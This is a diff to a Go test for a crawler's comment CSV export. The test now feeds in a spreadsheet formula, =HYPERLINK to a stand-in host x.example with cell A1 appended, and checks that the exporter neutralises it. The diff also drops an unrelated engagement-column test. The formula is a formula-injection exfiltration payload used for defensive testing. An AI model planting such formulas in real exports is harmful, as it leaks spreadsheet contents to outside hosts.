@@ -15,6 +15,7 @@ import (
 	"github.com/blackwidow-crawl/blackwidow/internal/fakes/feedserver"
 	"github.com/blackwidow-crawl/blackwidow/internal/testkit"
 	"github.com/blackwidow-crawl/blackwidow/internal/testkit/clustertest"
+	"github.com/blackwidow-crawl/blackwidow/pkg/commentexport"
 )
 
 // TestRun_CommentsExport exports a crawler whose comments span three days
@@ -29,7 +30,7 @@ func TestRun_CommentsExport(t *testing.T) {
 	ctx := context.Background()
 	// Ten stories on each of three days; some texts need CSV quoting.
 	day0 := time.Now().UTC().Truncate(24*time.Hour).AddDate(0, 0, -3).Add(9 * time.Hour)
-	texts := []string{`plain`, `with, a comma`, `with "quotes"`, "with a\nline break", `,"mixed",` + "\r\n"}
+	texts := []string{`=HYPERLINK("http://x.example/?"&A1,"open")`, `with, a comma`, `with "quotes"`, "with a\nline break", `,"mixed",` + "\r\n"}
 	for d := range 3 {
 		for i := range 10 {
 			cl.Feeds.Publish("news", feedserver.Item{GUID: fmt.Sprintf("d%d-%d", d, i), Title: texts[i%len(texts)],
@@ -80,13 +81,13 @@ func TestRun_CommentsExport(t *testing.T) {
 	}
 
 	// CSV: a header and one record per comment, quoted so that a reader
-	// gets every field back.
+	// gets every field back, formulas neutralised.
 	out := bwctl(t, hub, "comments", "export", itoa(cr.ID), "--format", "csv").ok2(t).stdout
 	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
 	if err != nil {
 		t.Fatalf("the CSV does not parse: %v\n%s", err, out)
 	}
-	if !slices.Equal(records[0], csvHeader) || len(records) != 31 {
+	if !slices.Equal(records[0], commentexport.Header) || len(records) != 31 {
 		t.Fatalf("CSV has header %v and %d rows", records[0], len(records)-1)
 	}
 	byID := map[string]api.Comment{}
@@ -95,9 +96,12 @@ func TestRun_CommentsExport(t *testing.T) {
 	}
 	for _, rec := range records[1:] {
 		c := byID[rec[0]]
-		if rec[3] != "alice, bob" || rec[11] != c.Text || rec[4] != c.PublishedAt.UTC().Format(time.RFC3339Nano) {
+		if rec[3] != "alice, bob" || rec[11] != commentexport.Neutralise(c.Text) || rec[4] != c.PublishedAt.UTC().Format(time.RFC3339Nano) {
 			t.Fatalf("CSV record %q, stored %+v", rec, c)
 		}
+	}
+	if !strings.Contains(out, `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`) {
+		t.Fatalf("CSV has a formula cell as it came:\n%s", out)
 	}
 	if !strings.Contains(out, `"alice, bob"`) || !strings.Contains(out, `""quotes""`) {
 		t.Fatalf("CSV fields are not quoted:\n%s", out)
@@ -108,38 +112,6 @@ func TestRun_CommentsExport(t *testing.T) {
 	out = bwctl(t, hub, "comments", "export", itoa(cr.ID), "--since", mid.Format(time.DateOnly), "--until", mid.AddDate(0, 0, 1).Format(time.RFC3339)).ok2(t).stdout
 	if n := strings.Count(out, "\n"); n != 10 || !strings.Contains(out, `"id":"d1-0"`) || strings.Contains(out, `"id":"d0-`) {
 		t.Fatalf("the middle day exported %d lines:\n%s", n, out)
-	}
-}
-
-// TestCSVWriter_Engagement writes a comment's reposts and likes in the
-// last two columns, empty when its source gave none and 0 when nobody had
-// shared it.
-func TestCSVWriter_Engagement(t *testing.T) {
-	var b strings.Builder
-	w := newCSVWriter(&b)
-	at := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
-	err := w.write([]api.Comment{
-		{ID: "a", CrawlerID: 1, Source: "mastodon", Text: "shared", PublishedAt: at, Engagement: &api.Engagement{Reposts: 12, Likes: 85}},
-		{ID: "b", CrawlerID: 1, Source: "mastodon", Text: "fresh", PublishedAt: at, Engagement: &api.Engagement{}},
-		{ID: "c", CrawlerID: 1, Source: "rss", Text: "no counts", PublishedAt: at},
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	records, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
-	if err != nil || len(records) != 4 {
-		t.Fatalf("CSV %q: %v", b.String(), err)
-	}
-	n := len(csvHeader)
-	col := func(name string) int { return slices.Index(records[0], name) }
-	r, l := col("reposts"), col("likes")
-	if r < 0 || l != r+1 || col("text") != r-1 {
-		t.Fatalf("header %v", records[0])
-	}
-	for i, want := range [][2]string{{"12", "85"}, {"0", "0"}, {"", ""}} {
-		if rec := records[i+1]; len(rec) != n || rec[r] != want[0] || rec[l] != want[1] {
-			t.Errorf("record %v, want reposts %q likes %q", rec, want[0], want[1])
-		}
 	}
 }
 
